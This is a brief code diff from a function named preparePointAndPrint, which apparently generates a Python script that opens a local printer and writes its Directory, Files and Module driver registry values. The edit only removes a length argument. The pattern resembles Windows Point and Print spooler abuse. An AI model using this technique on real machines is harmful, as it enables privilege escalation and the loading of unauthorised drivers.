@@ -251,7 +251,7 @@ export async function preparePointAndPrint(
     'uc.user_info = u1',
     'h = conn.OpenPrinterEx("\\\\\\\\127.0.0.1\\\\" + printer, None, dc, 0x000f000c, uc)',
     'def put(name, t, data):',
-    '    conn.SetPrinterDataEx(h, key, name, t, list(data), len(data))',
+    '    conn.SetPrinterDataEx(h, key, name, t, list(data))',
     'put("Directory", misc.REG_SZ, (directory + "\\0").encode("utf-16-le"))',
     'put("Files", misc.REG_MULTI_SZ, ("".join(f + "\\0" for f in files) + "\\0").encode("utf-16-le"))',
     'put("Module", misc.REG_SZ, (module + "\\0").encode("utf-16-le"))',
